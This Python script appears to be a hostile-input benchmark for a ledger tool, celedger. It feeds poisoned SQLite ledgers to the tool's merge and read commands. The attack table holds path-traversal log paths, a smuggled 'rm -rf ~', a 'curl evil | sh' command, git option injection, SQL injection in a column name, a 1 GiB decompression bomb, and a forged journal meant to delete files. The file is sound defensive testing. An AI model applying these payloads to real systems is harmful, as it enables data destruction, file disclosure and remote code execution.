"""Merge ledgers that an enemy made, and ask a ledger that an older celedger already let them into.

    python benchmarks/hostile.py [--only NAME] [--half N] [--keep]

Each attack changes one thing in an honest ledger and writes its checksums anew. It is tried twice:
`merge` brings it to a repository, and it lies there as the repository's own ledger. After each,
nine verbs that read are asked. Counted: what was disclosed, written outside of the repository, hung
for more than 10 s, ended in an internal error; and merges that let the attack in. Exits 1 for any.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import gzip
import json
import re
import shutil
import sqlite3
import struct
import subprocess
import sys
import tempfile
import time
import zlib
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from random import Random

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests"))

from conftest import Done, celedger, make_project  # noqa: E402
from old_verdicts import record_verdict  # noqa: E402

from celedger.base.model import (  # noqa: E402
    BaselineAct,
    BaselineRecord,
    BisectRecord,
    Command,
    Commit,
    Direction,
    Environment,
    EpochReport,
    FindingRecord,
    Floor,
    Footprint,
    Kind,
    Metric,
    Outcome,
    OutcomeKind,
    Purpose,
    StepValues,
    Task,
    Trial,
)  # fmt: skip
from celedger.ledger import Ledger, checksums, ulid  # noqa: E402
from celedger.repo import Repository  # noqa: E402

SECRET = "the-user's-own-secret"
HUNG = 10.0  # seconds
VERBS = (
    ("log",), ("show",), ("diff", "HEAD~1..HEAD"), ("drift",), ("table",), ("status",), ("report",),
    ("export",), ("plot", "drift", "--task", "fit"),
)  # fmt: skip
Db = sqlite3.Connection
Attack = Callable[[Db], object]


# --- an honest ledger


def fill(ledger: Ledger, commits: list[Commit], seed: int) -> None:
    """A row in every table: two tasks over some commits, with failures, a bisect and the rest."""
    random, clock = Random(seed), 1_700_000_000.0 + seed
    metrics = (Metric("val_loss", "", Direction.LOWER, Kind.QUALITY, Floor(0.001, relative=True)),)
    environment = Environment("e" * 64, {"python": "3.11", "packages": {"torch": "2.6"},
                                         "beside": {"imported": ["torch"]}})  # fmt: skip
    ledger.record_commits(commits)
    ledger.record_environment(environment)
    trials = []
    for name in ("fit", "other"):
        command = Command("train", ("{python}", "{suite}/fit.py", "--lr", "{lr}"))
        task = Task("tiny", name, (command,), {"lr": 0.1}, metrics=metrics)
        ledger.record_task(task)
        for number, commit in enumerate(commits):
            level = 1.0 if number < len(commits) // 2 else 1.5
            for seed in (0, 1, 2):
                clock += 10
                trial = Trial(
                    ulid.new(clock, random), commit.sha, task.recipe, environment.fingerprint,
                    seed, Purpose.RUN, clock, "host", "cpu",
                )  # fmt: skip
                ledger.start_trial(trial)
                values = [level + random.gauss(0, 0.01) + 1 / (e + 1) for e in range(4)]
                steps = {"val_loss": StepValues(0, (0.5, 0.25))}
                ledger.append_epochs(trial.ulid, [
                    EpochReport(e, {"val_loss": v}, f"{e:064x}", steps)
                    for e, v in enumerate(values)
                ])  # fmt: skip
                failed = name == "other" and number == len(commits) - 1
                kind = OutcomeKind.FAILED if failed else OutcomeKind.OK
                log = f".celedger/logs/{trial.ulid}.log" if failed else ""
                outcome = Outcome(kind, clock + 5, "exit status 1" * failed, int(failed), log)
                ledger.finish_trial(trial.ulid, outcome, {} if failed else {"val_loss": values[-1]})
                trials.append(trial)
    first, last = commits[0], commits[-1]
    ledger.record_footprint(trials[0].ulid, Footprint((b"model.py",), inputs=("*.txt",)), "around")
    (evidence,) = ledger.reusable_trials(recipe=trials[0].recipe, environment="e" * 64)
    for number in (1, 2):
        ledger.reuse_trial(
            Trial(ulid.new(clock + number, random), commits[number].sha, trials[0].recipe, "e" * 64,
                  7, Purpose.RUN, clock + number, "host", "cpu"), evidence, [],
        )  # fmt: skip
    for commit in commits:
        record_verdict(ledger, commit, trials[0].ulid)
    report = {
        "good": first.sha, "bad": last.sha, "commits": [c.sha for c in commits[1:]],
        "posterior": [1 / (len(commits) - 1)] * (len(commits) - 1), "trials": 3, "stored": 4,
        "culprits": [last.sha], "narrowing": [[[0, 0.5], [1, 0.5]], [[1, 1.0]]],
        "readings": [[0, 1.0]],
    }  # fmt: skip
    ledger.record_bisect(BisectRecord(
        ulid.new(clock, random), "tiny", "fit", "val_loss", first.sha, last.sha, (last.sha,), 0.97,
        "found", clock, report,
    ))  # fmt: skip
    ledger.record_baseline(BaselineRecord(
        ulid.new(clock, random), BaselineAct.PIN, first.sha, "tiny", "", "", "Ada", "v1", clock
    ))  # fmt: skip
    ledger.record_finding(FindingRecord(
        ulid.new(clock, random), "explain", "tiny", "fit", last.sha, first.sha,
        "explain HEAD~1..HEAD", clock, "it differs", {"schema": 1},
    ))  # fmt: skip


# --- the attacks


def put(table: str, where: str = "TRUE", **columns: object) -> Attack:
    """Return the attack that sets columns of the last row of a table."""
    names = ", ".join(f"{name} = ?" for name in columns)
    key = "trial" if table in ("outcomes", "derived", "points") else "rowid"

    def attack(db: Db) -> None:
        (row,) = db.execute(f"SELECT max({key}) FROM {table} WHERE {where}").fetchone()
        assert row is not None, table
        db.execute(f"UPDATE {table} SET {names} WHERE {key} = ?", (*columns.values(), row))

    return attack


def sql(script: str) -> Attack:
    return lambda db: db.executescript(script)


def chain(db: Db, length: int = 5000) -> None:
    first, columns = (
        db.execute("SELECT max(id) FROM trials").fetchone()[0],
        "why, started, host, device",
    )
    for number in range(length):
        name = f"01J{number:023}"
        db.execute(
            f"INSERT INTO trials (id, ulid, revision, task, environment, seed, {columns}) SELECT "
            f"?, ?, revision, task, environment, ?, {columns} FROM trials WHERE id = 1",
            (first + number + 1, name, number + 100),
        )
        db.execute("INSERT INTO derived VALUES (?, ?)", (first + number + 1, first + number))
        db.execute(
            "INSERT INTO outcomes SELECT ?, kind, ended, message, returncode, log, marks, epochs "
            "FROM outcomes WHERE trial = 1", (first + number + 1,)
        )  # fmt: skip
        checksums.seal(db, "trials", first + number + 1)


def bomb(db: Db) -> None:
    put("footprints", paths=zlib.compress(bytes(1 << 30), 1))(db)


def volume(db: Db) -> None:
    """Trials × metrics is what a merge looks through."""
    for number in range(30_000):
        key = db.execute("INSERT INTO metrics (name) VALUES (?)", (f"m{number}",)).lastrowid
        checksums.seal(db, "metrics", key or 0)
    chain(db, 0)
    for number in range(3000):
        key = db.execute(
            "INSERT INTO trials (ulid, revision, task, environment, seed, why, started, host, "
            "device) SELECT ?, revision, task, environment, ?, why, started, host, device FROM "
            "trials WHERE id = 1", (f"01J{number:023}", number)
        ).lastrowid  # fmt: skip
        db.execute(
            "INSERT INTO outcomes SELECT ?, kind, ended, message, returncode, log, marks, epochs "
            "FROM outcomes WHERE trial = 1", (key,)
        )  # fmt: skip
        checksums.seal(db, "trials", key or 0)


ENDLESS = "WITH RECURSIVE t(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM t)"
SHA = "'0123456789012345678901234567890123456789'"

ATTACKS: dict[str, Attack] = {
    "nothing": lambda db: None,
    "log: an absolute path": put("outcomes", "kind = 'failed'", log="{outside}/secret.txt"),
    "log: a path that climbs": put("outcomes", "kind = 'failed'", log="../outside/secret.txt"),
    "log: climbs from its folder": put(
        "outcomes", "kind = 'failed'", log=".celedger/logs/../../../outside/secret.txt"
    ),
    "log: a NUL": put("outcomes", "kind = 'failed'", log="a\0b"),
    "ulid: climbs": put("trials", ulid="../../outside/secret.txt"),
    "ulid: 26 letters that climb": put("trials", ulid="../../../outside/secret.tx"),
    "bisect: a ulid that climbs": put("bisects", ulid="../../../outside/x"),
    "baseline: a ulid with escapes": put("baselines", ulid="\x1b]0;x\x07"),
    "definition: no JSON": put("tasks", definition="not json"),
    "definition: a list": put("tasks", definition="[]"),
    "definition: deep": put("tasks", definition='{"params":' + "[" * 90_000 + "]" * 90_000 + "}"),
    "definition: params are a number": put("tasks", definition='{"params": 5, "pattern": 3}'),
    "definition: a number of 5000 digits": put("tasks", definition='{"x": ' + "9" * 5000 + "}"),
    "commit: author's time": put("commits", author_time=2**63 - 1),
    "commit: its time": put("commits", commit_time=-(2**63)),
    "trial: started in the year 10^292": put("trials", started=1e300),
    "trial: started never": put("trials", started=float("inf")),
    "outcome: ended in the far future": put("outcomes", ended=9e18),
    "derived: a cycle": lambda db: (
        db.execute("INSERT OR REPLACE INTO derived VALUES (1, 2)"),
        db.execute("INSERT OR REPLACE INTO derived VALUES (2, 1)"),
    ),
    "derived: from itself": lambda db: db.execute("INSERT OR REPLACE INTO derived VALUES (3, 3)"),
    "derived: a chain of 5000": chain,
    "name: a suite with escapes": put("tasks", suite="\x1b[2Jtiny"),
    "name: a task of two lines": put("tasks", name="fit\nrm -rf ~"),
    "name: a metric with escapes": put("metrics", name="\x1b]0;pwned\x07"),
    "hash: short": put("commits", sha="abc"),
    "hash: an option of git": put("commits", sha="--output=../outside/written"),
    "bisect: good is an option": put("bisects", good="--output=../outside/written"),
    "recipe: no hash": put("tasks", recipe="../x"),
    "word: an unknown outcome": put("outcomes", kind="fine"),
    "word: an unknown reason": put("trials", why="fun"),
    "word: an unknown mark": put("outcomes", marks="shiny"),
    "verdict: an unsafe name": put("verdicts", kind="\x1b[31m"),
    "word: an unknown direction": put("definitions", direction="sideways"),
    "word: an unknown act": lambda db: (
        db.execute("PRAGMA ignore_check_constraints = ON"), put("baselines", act="bless")(db)
    ),
    "metric: an unknown rule": put("definitions", summary="mean-of-last-0"),
    "metric: an endless floor": put("definitions", floor=float("inf")),
    "epoch: 2^62": lambda db: db.execute("UPDATE points SET epoch = 1 << 62 WHERE epoch = 3"),
    "step: the 2^60th": put("steps", first=2**60),
    "footprint: a bomb of 1 GiB": bomb,
    "footprint: no zlib": put("footprints", paths=b"paths"),
    "trials judged: no JSON": put("trial_sets", ulids="["),
    "verdict: recorded at no time": put("verdicts", recorded="yesterday"),
    "bisect: a report of another shape": put(
        "bisects", report='{"commits": 7, "posterior": ["x"], "narrowing": [5], "readings": {}}'
    ),
    "bisect: found nothing": put("bisects", culprits="[]"),
    "environment: details are a list": put("environments", details="[1]"),
    "environment: packages imported are a number": put(
        "environments", details='{"beside": {"imported": 5}}'
    ),
    "finding: a command for the shell": put("findings", command="explain a; curl evil | sh"),
    "finding: no JSON": put("findings", document="{"),
    "reference: a point of no metric": lambda db: db.execute("UPDATE points SET metric = 99999"),
    "reference: a trial of no commit": put("trials", revision=99999),
    "schema: commits are an endless view": sql(
        "DROP TABLE commits; CREATE VIEW commits AS " + ENDLESS + f" SELECT x AS id, {SHA} AS sha, "
        f"{SHA} AS tree, '' AS author, 1 AS author_time, 1 AS commit_time, '' AS subject FROM t;"
    ),
    "schema: checksums are an endless view": sql(
        "DROP TABLE checksums; CREATE VIEW checksums AS " + ENDLESS +
        " SELECT x AS id, 'commits' AS fact, x AS row, 1 AS value FROM t;"
    ),
    "schema: a trigger": sql(
        "CREATE TRIGGER evil AFTER INSERT ON checksums BEGIN INSERT INTO metrics (name) " + ENDLESS
        + " SELECT x FROM t; END;"
    ),
    "schema: a virtual table": sql(
        "DROP TABLE findings; CREATE VIRTUAL TABLE findings USING fts5(id, ulid, verb, document);"
    ),
    "schema: a generated column": sql(
        "ALTER TABLE outcomes ADD COLUMN x TEXT AS (printf('%.*c', 90000000, 'x')) VIRTUAL;"
    ),
    "schema: SQL for the name of a column": sql(
        'ALTER TABLE metrics ADD COLUMN "name) VALUES (1, 1); DELETE FROM jobs; --" TEXT;'
    ),
    "schema: it refers to other tables": sql(
        "DROP TABLE metrics; CREATE TABLE metrics (id INTEGER PRIMARY KEY, name TEXT NOT NULL "
        "UNIQUE REFERENCES jobs(id)) STRICT; INSERT INTO metrics VALUES (1, 'val_loss');"
    ),
    "schema: an older one, with a trigger": sql(
        "DROP VIEW latest; DROP VIEW drift; DROP VIEW incidents; DROP INDEX summaries_by_trial; "
        "CREATE TEMP TABLE kept AS SELECT row_number() OVER "
        "(ORDER BY id), fact, row, value FROM checksums "
        "WHERE fact NOT IN ('findings', 'trial_facts', 'said'); DELETE FROM checksums; "
        "ALTER TABLE checksums DROP COLUMN schema; INSERT INTO checksums SELECT * FROM kept; "
        "DROP TABLE kept; DROP TABLE findings; DROP TABLE trial_facts; DROP TABLE said; "
        "ALTER TABLE jobs ADD COLUMN payload TEXT; ALTER TABLE jobs ADD COLUMN lease_until REAL; "
        "UPDATE _sqlite_migrations SET name = '3_checksums'; PRAGMA user_version = 3; "
        "CREATE TRIGGER evil AFTER INSERT ON _sqlite_migrations BEGIN INSERT INTO metrics (name) "
        + ENDLESS + " SELECT x FROM t; END;"
    ),
    "volume: trials times metrics": volume,
}  # fmt: skip
# What an honest ledger may have: it is taken in, and nothing of the attack.
HARMLESS = {"nothing", "schema: a trigger"}
# What is as large as it looks: it may come, in time.
LARGE = ("volume: trials times metrics",)
# What only a file beside the ledger does.
FILES = ("a journal that names a file", "a stamp that is a link")


def poison(path: Path, attack: Attack, outside: Path) -> None:
    """Attack a ledger, and write the checksums of its facts anew."""
    with contextlib.closing(sqlite3.connect(path, isolation_level=None)) as db:
        db.execute("PRAGMA journal_mode = delete")
        for (name,) in db.execute(
            "SELECT name FROM sqlite_master WHERE type = 'trigger'"
        ).fetchall():
            db.execute(f"DROP TRIGGER {name}")
        db.execute("BEGIN")
        attack(db)
        if not db.in_transaction:
            db.execute("BEGIN")
        db.execute("UPDATE outcomes SET log = replace(log, '{outside}', ?)", (str(outside),))
        if db.execute("SELECT type FROM sqlite_master WHERE name = 'checksums'").fetchone() == (
            "table",
        ):
            for number, table, row in db.execute("SELECT id, fact, row FROM checksums").fetchall():
                with contextlib.suppress(sqlite3.Error):
                    value = checksums.checksum(db, table, row, max(checksums.COVERED))
                    db.execute("UPDATE checksums SET value = ? WHERE id = ?", (value, number))
        db.execute("COMMIT")


def lay(file: str, path: Path, precious: Path) -> None:
    """Lay a file beside a ledger."""
    if file == "a stamp that is a link":
        (path.parent / ".celedger").mkdir(exist_ok=True)
        (path.parent / ".celedger" / f"{path.name}.stamp").symlink_to(precious)
        return
    # https://sqlite.org/fileformat2.html#the_rollback_journal: a header, no page, then the name of
    # a journal of several files, which SQLite deletes once no other refers to it.
    name = bytes(precious)
    header = struct.pack(">8sIIIII", b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7", 0, 1, 1, 512, 4096)
    ending = struct.pack(">I", 0xFFFFFFFF) + name + struct.pack(">II", len(name), sum(name))
    journal = header.ljust(512, b"\0") + ending + b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"
    Path(f"{path}-journal").write_bytes(journal)


# --- a repository, and what is asked of it


class World:
    """A repository with an honest ledger, an enemy's one beside it, and files of the user."""

    def __init__(self, folder: Path, commits: int = 6) -> None:
        self.project = make_project(folder / "repository")
        for number in range(commits):
            self.project.commit(f"change {number}", {"model.py": f"LEVEL = {number}\n"})
        self.outside = folder / "outside"
        self.theirs = folder / "theirs" / "ledger.db"
        for path in (self.outside, self.theirs.parent):
            path.mkdir()
        for name in ("secret.txt", "precious"):
            (self.outside / name).write_text(SECRET)
        repository = Repository.open(self.project.root)
        history = repository.log("HEAD", limit=100)[::-1]
        for path, seed in ((self.ledger, 1), (self.theirs, 2)):
            with Ledger.open(path, create=True) as ledger:
                fill(ledger, history, seed)
        self.honest = {path: path.read_bytes() for path in (self.ledger, self.theirs)}

    @property
    def ledger(self) -> Path:
        return self.project.root / "ledger.db"

    def reset(self) -> None:
        for path, content in self.honest.items():
            for suffix in ("-wal", "-shm", "-journal"):
                Path(f"{path}{suffix}").unlink(missing_ok=True)
            shutil.rmtree(path.parent / ".celedger", ignore_errors=True)
            path.write_bytes(content)
        shutil.rmtree(self.project.root / ".git" / "celedger", ignore_errors=True)

    def ask(self, *words: str) -> tuple[Done, float]:
        begun = time.monotonic()
        try:
            done = celedger(self.project.root, *words, timeout=HUNG)
        except subprocess.TimeoutExpired:
            done = Done(-9, "", "hung")
        return done, time.monotonic() - begun

    def harm(self, done: Done) -> str:
        """Return what an answer did that it must not: "" for nothing."""
        if done.status == -9:
            return "hung"
        if "internal error" in done.err or "Traceback" in done.err:
            return "internal error"
        if SECRET in done.out + done.err + self._page():
            return "disclosed"
        files = sorted(p.name for p in self.outside.iterdir())
        same = all((self.outside / name).read_text() == SECRET for name in files)
        return "" if files == ["precious", "secret.txt"] and same else "written outside"

    def _page(self) -> str:
        page = self.project.root / ".celedger" / "report.html"
        if not page.is_file():
            return ""
        text = page.read_text()
        parts = [gzip.decompress(base64.b64decode(p)) for p in re.findall("H4sI[\\w+/=]+", text)]
        return text + b"".join(parts).decode(errors="replace")

    def trials(self) -> int:
        with contextlib.closing(sqlite3.connect(self.ledger)) as db:
            return int(db.execute("SELECT count(*) FROM trials").fetchone()[0])


def trial_of(world: World, name: str, *, merges: bool) -> list[tuple[str, str, str]]:
    """Try one attack. Return (verb, harm, last line of stderr) of each answer that did harm."""
    world.reset()
    bad, path = [], world.theirs if merges else world.ledger
    before = world.trials()
    if name in ATTACKS:
        poison(path, ATTACKS[name], world.outside)
    else:
        lay(name, path, world.outside / "precious")
    verbs = [*((("merge", str(world.theirs)),) if merges else ()), *VERBS]
    for words in verbs:
        done, _ = world.ask(*words)
        harm = world.harm(done)
        is_in = words[0] == "merge" and world.trials() > before and name in ATTACKS
        may_be_in = name in HARMLESS or name in LARGE
        if not harm and words[0] == "merge" and name in ATTACKS and is_in != may_be_in:
            harm = "let in" if is_in else "kept out"
        if harm:
            bad.append((words[0], harm, (done.err.strip().splitlines() or [""])[-1]))
            if harm == "hung":
                break
    return bad


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--only", default="", help="a part of the attacks' names")
    parser.add_argument("--half", type=int, choices=(0, 1), help="every second attack")
    parser.add_argument("--keep", action="store_true")
    options = parser.parse_args()
    folder = Path(tempfile.mkdtemp(prefix="celedger-hostile-"))
    world, harms, answers, tried = World(folder), Counter[str](), 0, 0
    for number, name in enumerate((*ATTACKS, *FILES)):
        if options.only not in name or options.half == number % 2:
            continue
        tried += 1
        for merges in (True, False):
            bad = trial_of(world, name, merges=merges)
            answers += len(VERBS) + merges
            for verb, harm, said in bad:
                harms[harm] += 1
                way = "merge" if merges else "own"
                print(f"{way:5} {name}: {verb}: {harm}: {said[:150]}", flush=True)
        print(f"{tried} tried: {name}", file=sys.stderr, flush=True)
    print(json.dumps({"ledgers": tried, "answers": answers, **harms}))
    if not options.keep:
        shutil.rmtree(folder)
    return 1 if harms else 0


if __name__ == "__main__":
    sys.exit(main())
